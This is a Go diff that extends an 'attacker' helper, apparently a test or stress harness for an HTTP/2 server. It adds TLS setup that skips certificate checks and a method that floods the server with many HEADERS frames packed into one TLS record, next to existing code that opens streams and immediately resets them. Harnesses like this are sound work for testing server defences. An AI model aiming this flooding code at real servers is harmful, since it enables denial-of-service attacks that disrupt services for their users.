@@ -21,10 +21,17 @@ func manyFields() string {
 	return b.String()
 }
 
+// secure opens a connection of HTTP/2.
+func (a *attacker) secure() (*tls.Conn, error) {
+	secure := tls.Client(a, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, DynamicRecordSizingDisabled: true})
+	_, err := io.WriteString(secure, http2.ClientPreface)
+	return secure, err
+}
+
 // http2 opens a connection of HTTP/2 that takes no bodies.
 func (a *attacker) http2() (*http2.Framer, error) {
-	secure := tls.Client(a, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
-	if _, err := io.WriteString(secure, http2.ClientPreface); err != nil {
+	secure, err := a.secure()
+	if err != nil {
 		return nil, err
 	}
 	f := http2.NewFramer(secure, secure)
@@ -61,6 +68,24 @@ func (a *attacker) streams(n, fields int, takeBack bool) error {
 		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
 			return err
 		}
+	}
+	return a.drain()
+}
+
+// records sends requests by the hundred, with as many in each record of TLS as fit.
+func (a *attacker) records(n int) error {
+	secure, err := a.secure()
+	if err != nil {
+		return err
+	}
+	var all bytes.Buffer
+	f, head := http2.NewFramer(&all, nil), headOf(0)
+	_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+	for id := uint32(1); id < uint32(2*n); id += 2 {
+		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true})
+	}
+	if _, err := secure.Write(all.Bytes()); err != nil {
+		return err
 	}
 	return a.drain()
 }
